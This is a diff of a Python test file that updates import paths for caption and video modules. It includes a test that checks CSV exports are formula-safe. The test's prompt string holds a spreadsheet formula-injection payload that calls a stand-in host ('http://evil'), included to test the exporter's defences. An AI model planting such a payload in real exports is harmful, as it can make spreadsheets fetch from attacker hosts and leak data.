@@ -5,7 +5,7 @@ import io
 
 import pandas as pd
 
-from core import captions
+from core.captions import service as captions
 from core.exports import neutralise, rows_to_csv
 from db import captions as queries
 
@@ -78,7 +78,7 @@ def test_export_holds_only_the_filtered_rows(studio):
 def test_the_generations_export_is_formula_safe_and_round_trips(studio):
     import json
 
-    from core import videos
+    from core.videos import library as videos
     from db import videos as video_queries
 
     prompt = "=IMPORTXML(\"http://evil\") a fox, \"quoted\", 狐 🦊\nsecond line"
